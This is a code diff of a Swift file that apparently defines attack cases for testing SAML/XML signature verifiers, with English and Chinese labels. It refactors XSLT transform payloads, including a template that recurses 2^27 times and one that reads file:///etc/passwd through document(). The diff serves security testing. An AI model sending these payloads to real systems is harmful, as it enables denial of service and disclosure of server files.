@@ -5,14 +5,15 @@ import XMLSecurity
 extension Attack {
     private static let xslt = "pysaml2 1035, python3-saml 447, SAMLRaider ApplyXsltTest"
     private static let xpath = "CVE-2026-49289, SAMLscope IIP-SSO01-fk, samael xpath_transform"
+    private static let call = "<xsl:call-template name=\"a\"></xsl:call-template>"
     private static let dsig = SignatureDraft.namespace
 
     static let transforms: [Attack] = [
         transform(28, "xslt-recursion", "An XSLT transform that recurses 2^27 times", "递归 2^27 次的 XSLT 变换", xslt) {
-            [$0, stylesheet("<xsl:call-template name=\"a\"/><xsl:call-template name=\"a\"/>"), $1]
+            [$0, stylesheet("\(call)\(call)"), $1]
         },
         transform(28, "xslt-document", "An XSLT transform that reads a file", "读取文件的 XSLT 变换", xslt) {
-            [$0, stylesheet("<xsl:copy-of select=\"document('file:///etc/passwd')\"/>"), $1]
+            [$0, stylesheet("<xsl:copy-of select=\"document('file:///etc/passwd')\"></xsl:copy-of>"), $1]
         },
         transform(29, "base64", "A Base64 transform", "Base64 变换", xpath) {
             [$0, $1, "<ds:Transform Algorithm=\"\(dsig)base64\"></ds:Transform>"]
@@ -84,6 +85,6 @@ extension Attack {
     private static func stylesheet(_ body: String) -> String {
         "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\">"
             + "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">"
-            + "<xsl:template name=\"a\" match=\"/\">\(body)</xsl:template></xsl:stylesheet></ds:Transform>"
+            + "<xsl:template match=\"/\" name=\"a\">\(body)</xsl:template></xsl:stylesheet></ds:Transform>"
     }
 }
